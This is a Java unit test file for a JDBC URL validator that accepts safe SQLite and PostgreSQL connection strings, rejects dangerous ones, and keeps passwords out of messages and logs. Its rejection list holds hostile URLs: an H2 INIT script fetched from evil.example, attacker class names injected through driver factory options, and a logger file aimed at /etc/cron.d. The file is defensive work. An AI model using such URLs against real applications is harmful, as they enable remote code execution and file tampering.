package dev.windrow.common.url;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.sql.Driver;
import java.sql.DriverPropertyInfo;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Properties;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class JdbcUrlTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:sqlite:/srv/shop.db",
                "jdbc:sqlite:shop.db?",
                "jdbc:sqlite:shop.db?busy_timeout=10000&journal_mode=wal&synchronous=NORMAL",
                "jdbc:sqlite:shop.db?date_string_format=yyyy-MM-dd HH:mm:ss.SSS",
                "jdbc:sqlite:file:/srv/shop.db?mode=ro&immutable=1",
                "jdbc:sqlite:file:shop%20two.db",
                "jdbc:postgresql:shop",
                "jdbc:postgresql:/",
                "jdbc:postgresql://db/shop",
                "jdbc:postgresql://db",
                "jdbc:postgresql:///shop",
                "jdbc:postgresql://db.example:5433/my%20shop?ssl&sslmode=verify-full&sslrootcert=/etc/ca.pem",
                "jdbc:postgresql://a:5432,b_2:5432,[::1]:5432/shop?targetServerType=preferSecondary&prepareThreshold=0",
                "jdbc:postgresql://db/shop?user=me&sslpassword=a%26b"
            })
    void letsThroughWhatSaysHowToReachADatabase(String url) {
        assertThat(JdbcUrl.checked(url)).isEqualTo(url);
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:SQLITE:Shop.db?journal_mode=WAL,jdbc:sqlite:Shop.db?journal_mode=WAL",
        "JDBC:PostgreSQL://DB/Shop,jdbc:postgresql://DB/Shop"
    })
    void takesASchemeInAnyLetters(String url, String plain) {
        assertThat(JdbcUrl.checked(url)).isEqualTo(plain);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:sqlite:x.db?enable_load_extension=true",
                "jdbc:sqlite:x.db?Enable_Load_Extension=true",
                "jdbc:sqlite:x.db? enable_load_extension =true",
                "jdbc:sqlite:x.db?cache_size=1&enable_load_extension=true",
                "jdbc:sqlite:x.db?cache_size=1?enable_load_extension=true",
                "jdbc:sqlite:x.db?cache_size=1;attach 'y'",
                "jdbc:sqlite:x.db?cache_size",
                "jdbc:sqlite:x.db?cache_size=",
                "jdbc:sqlite:x.db?&cache_size=1",
                "jdbc:sqlite:x.db?open_mode=6",
                "jdbc:sqlite:x.db?temp_store_directory=/etc",
                "jdbc:sqlite:x.db?jdbc.explicit_readonly=false",
                "jdbc:sqlite:x.db?mode=ro",
                "jdbc:sqlite:file:x.db?vfs=unix-none",
                "jdbc:sqlite:file:x.db?%76fs=unix-none",
                "jdbc:sqlite:file:x.db?mode=mem%6fry",
                "jdbc:sqlite:file:x.db?nolock=1",
                "jdbc:postgresql://db/x?socketFactory=org.example.Evil",
                "jdbc:postgresql://db/x?ssl=true&sslfactory=org.example.Evil",
                "jdbc:postgresql://db/x?sslhostnameverifier=org.example.Evil",
                "jdbc:postgresql://db/x?sslpasswordcallback=org.example.Evil",
                "jdbc:postgresql://db/x?authenticationPluginClassName=org.example.Evil",
                "jdbc:postgresql://db/x?xmlFactoryFactory=org.example.Evil",
                "jdbc:postgresql://db/x?connectExecutor=org.example.Evil",
                "jdbc:postgresql://db/x?loggerFile=/etc/cron.d/evil&loggerLevel=TRACE",
                "jdbc:postgresql://db/x?service=evil",
                "jdbc:postgresql://db/x?options=-c%20statement_timeout%3D0",
                "jdbc:postgresql://db/x?binaryTransfer=true",
                "jdbc:postgresql://db/x?prepareThreshold=5",
                "jdbc:postgresql://db/x?readOnly=false",
                "jdbc:postgresql://db/x?allowLocalInfile=true&autoDeserialize=true",
                "jdbc:postgresql://db/x?user=me&password=secret",
                "jdbc:postgresql://db/x?user=%",
                "jdbc:postgresql://me:secret@db/x",
                "jdbc:postgresql://db:70000/x",
                "jdbc:postgresql://db:port/x",
                "jdbc:postgresql://db/x/y",
                "jdbc:postgresql://db/%zz",
                "jdbc:mariadb://db/x?allowLocalInfile=true",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:duckdb:",
                "jdbc:duckdb::memory:",
                "jdbc:duckdb:md:shop",
                "jdbc:duckdb:x.duckdb;duckdb.read_only=false",
                "jdbc:duckdb:x.duckdb;enable_external_access=true",
                "jdbc:",
                "jdbc:sqlite",
                " jdbc:sqlite:x.db",
                ""
            })
    void refusesAllElse(String url) {
        assertThatThrownBy(() -> JdbcUrl.checked(url))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageMatching(".*(; |: | \\(there are: ).*");
    }

    @Test
    void namesTheOptionAndTheMend() {
        assertThatThrownBy(() -> JdbcUrl.checked("jdbc:postgresql://db/x?ssl=true&socketFactory=x"))
                .hasMessageStartingWith(
                        "option \"socketFactory\" of the URL is not let through; leave it out (there are: ApplicationName,");
        assertThatThrownBy(() -> JdbcUrl.checked("jdbc:postgresql://db/x?options=-c"))
                .hasMessage(
                        "option \"options\" of the URL is not let through; leave it out, and set what it sets for the"
                                + " database's user: alter role … set …");
        assertThatThrownBy(() -> JdbcUrl.checked("jdbc:postgresql://db/x?password=secret"))
                .hasMessage(
                        "option \"password\" of the URL is not taken; leave it out, and set password beside the url");
        assertThatThrownBy(() -> JdbcUrl.checked("jdbc:postgresql://me:secret@db/x"))
                .hasMessage(
                        "the URL has a user or a password before its host, where PostgreSQL's driver knows none; take"
                                + " them out, and set username and password");
    }

    @Test
    void neverSaysWhatMayBePartOfAPassword() {
        assertThatThrownBy(() -> JdbcUrl.checked("jdbc:postgresql://db/x?sslpassword=very&secret=x"))
                .message()
                .startsWith("option 2 of the URL is not let through")
                .contains("if it is a part of a password")
                .doesNotContain("very", "secret");
    }

    /**
     * Each option that a driver in the jar has is let through on purpose, or not at all: a new version's new ones are
     * not.
     */
    @Test
    void letsThroughNoOptionOfADriverThatNamesAClassOrAFileToWrite() throws SQLException {
        List<String> passed = new ArrayList<>();
        for (DriverPropertyInfo option : options(new org.postgresql.Driver(), "jdbc:postgresql://db/x")) {
            try {
                JdbcUrl.checked("jdbc:postgresql://db/x?" + option.name + "=x");
                passed.add(option.name);
            } catch (IllegalArgumentException e) {
                assertThat(e).hasMessageContaining(option.name);
            }
        }
        assertThat(passed)
                .hasSizeBetween(20, 26)
                .allSatisfy(name -> assertThat(name)
                        .doesNotContainIgnoringCase("factory")
                        .doesNotContainIgnoringCase("class")
                        .doesNotContainIgnoringCase("callback")
                        .doesNotContainIgnoringCase("verifier")
                        .doesNotContainIgnoringCase("logger"));
    }

    /** PostgreSQL's driver logs a URL that it can't read, as a whole; so it may see none of these. */
    @Test
    void leavesNothingToTheDriverThatItWouldLog() {
        List<String> logged = new ArrayList<>();
        Handler handler = new Handler() {
            @Override
            public void publish(LogRecord entry) {
                logged.add(entry.getMessage() + Arrays.toString(entry.getParameters()));
            }

            @Override
            public void flush() {}

            @Override
            public void close() {}
        };
        Logger logger = Logger.getLogger("org.postgresql");
        logger.addHandler(handler);
        logger.setUseParentHandlers(false);
        try {
            for (String address : List.of(
                    "//db:x/y", "//db:70000/y", "//db/a/b", "//db/%zz", "//me:secret@db/y", "//[::1/y", "///")) {
                for (String options : List.of(
                        "", "?sslpassword=secret", "?password=secret", "?sslpassword=%zsecret", "?service=secret")) {
                    ask("jdbc:postgresql:" + address + options);
                }
            }
        } finally {
            logger.removeHandler(handler);
            logger.setUseParentHandlers(true);
        }
        assertThat(logged).noneMatch(line -> line.contains("secret"));
    }

    private static void ask(String url) {
        try {
            new org.postgresql.Driver().acceptsURL(JdbcUrl.checked(url));
        } catch (IllegalArgumentException e) {
            assertThat(e.getMessage()).doesNotContain("secret");
        }
    }

    private static DriverPropertyInfo[] options(Driver driver, String url) throws SQLException {
        return driver.getPropertyInfo(url, new Properties());
    }
}
